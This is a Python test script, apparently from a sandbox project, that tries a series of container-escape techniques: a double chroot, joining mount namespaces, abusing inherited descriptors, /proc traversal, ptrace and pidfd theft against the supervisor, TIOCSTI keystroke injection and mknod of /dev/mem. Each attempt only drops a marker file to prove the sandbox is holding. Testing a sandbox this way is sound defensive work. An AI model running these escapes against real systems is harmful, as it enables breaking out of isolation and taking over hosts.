#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Attacks of a program in a sandbox on what is outside of it.

usage: attacks.py FILE ATTACK...
Each attack tries to create FILE, an absolute path of the host, by another way out; a file that has
come into being is what shows that there is one, so it also says on standard output what it has
reached. "tried NAME" is printed when an attack is over, whatever came of it.
"""

import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS = 0x20000
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
PTRACE_SEIZE = 0x4206
TIOCSTI, TIOCLINUX = 0x5412, 0x541c
TARGET = sys.argv[1]
SUPERVISOR = os.getppid()


def made(where, **how):
    """Tries to make the file there. Nothing that can go wrong with that is of interest."""
    try:
        os.close(os.open(where, os.O_WRONLY | os.O_CREAT, 0o644, **how))
        print('out:', where, flush=True)
    except OSError:
        pass


def up_and_out():
    """From a directory that is above the root of the process to the root of all."""
    for _ in range(64):
        os.chdir('..')
    made(TARGET.lstrip('/'))
    os.chroot('.')
    made(TARGET)


def second_chroot():
    """The classic: chroot(2) does not change the working directory."""
    fd = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
    inner = next((d for d in ('/tmp', '/mnt', '/usr', '/proc') if os.path.isdir(d)), '/')
    os.chroot(inner)
    os.fchdir(fd)
    up_and_out()


def own_mount_namespace():
    """Joining the mount namespace that one is in leads to its root."""
    for name in '/proc/self/ns/mnt', '/proc/1/ns/mnt':
        try:
            fd = os.open(name, os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(fd, CLONE_NEWNS) == 0:
            made(TARGET)


def inherited_descriptors():
    """A directory that was open leads out, whatever the root is."""
    for fd in range(3, 64):
        made(TARGET.lstrip('/'), dir_fd=fd)
        made(os.path.basename(TARGET), dir_fd=fd)
        try:
            os.fchdir(fd)
        except OSError:
            continue
        try:
            up_and_out()
        except OSError:
            pass


def other_processes():
    """Root, directory and descriptors of whoever can be seen, the first process above all."""
    for pid in os.listdir('/proc'):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        made(f'/proc/{pid}/root{TARGET}')
        for _ in range(2):
            made(f'/proc/{pid}/cwd/{"../" * 32}{TARGET}')
        try:
            fds = os.listdir(f'/proc/{pid}/fd')
        except OSError:
            continue
        for fd in fds:
            made(f'/proc/{pid}/fd/{fd}{TARGET}')


def readable_memory(pid):
    """Whether one byte of its memory can be had, in either way."""
    try:
        with open(f'/proc/{pid}/maps', 'rb') as maps:
            start = int(maps.readline().split(b'-')[0], 16)
        with open(f'/proc/{pid}/mem', 'rb') as memory:
            memory.seek(start)
            return len(memory.read(1)) == 1
    except (OSError, ValueError, IndexError):
        return False


def supervisor():
    """Whoever waits for us: traced, read, or robbed of a descriptor."""
    pids = {SUPERVISOR, 1} - {0, os.getppid()}
    for pid in sorted(pids):
        if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            print(f'out: traced {pid}', flush=True)
            # Its end ends the trace; as long as it was not stopped it goes on.
        if readable_memory(pid):
            print(f'out: read the memory of {pid}', flush=True)
        pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
        if pidfd >= 0:
            for fd in range(64):
                if libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0) >= 0:
                    print(f'out: took descriptor {fd} of {pid}', flush=True)
                    break


def terminal():
    """Types a line as if the user had; with bits set that the kernel ignores as well."""
    for request in TIOCSTI, TIOCSTI | 1 << 32, TIOCSTI | 0xdead << 32:
        for char in b'owned\n':
            libc.ioctl(0, ctypes.c_ulong(request), ctypes.c_char_p(bytes([char])))
    # On a terminal that is no console the kernel knows no such request.
    if libc.ioctl(0, ctypes.c_ulong(TIOCLINUX), ctypes.byref(ctypes.c_char(2))) < 0:
        print('TIOCLINUX:', os.strerror(ctypes.get_errno()))


def devices():
    """Opens what is planted as a device, or makes one: both lead to a disk or to memory."""
    for name in '/dev/planted', '/mnt/planted', '/mnt/sub/planted', '/planted', 'planted':
        try:
            os.close(os.open(name, os.O_RDONLY | os.O_NONBLOCK))
            print('out: opened', name, flush=True)
        except OSError as error:
            print('refused:', name, error.strerror)
    for place in '/tmp', '/run', '/dev', '/dev/shm', '.':
        name = f'{place}/made'
        try:
            os.mknod(name, 0o600 | 0o020000, os.makedev(1, 5))
            os.close(os.open(name, os.O_RDONLY))
            print('out: made', name, flush=True)
        except OSError:
            pass


ATTACKS = {
    'chroot': second_chroot,
    'setns': own_mount_namespace,
    'descriptors': inherited_descriptors,
    'processes': other_processes,
    'supervisor': supervisor,
    'terminal': terminal,
    'devices': devices,
}


def main():
    for name in sys.argv[2:]:
        # A child each: what one has changed is not the next one's.
        child = os.fork()
        if child == 0:
            try:
                ATTACKS[name]()
            except OSError as error:
                print(f'{name}: {error}')
            sys.stdout.flush()
            os._exit(0)
        os.waitpid(child, 0)
        print('tried', name, flush=True)


main()
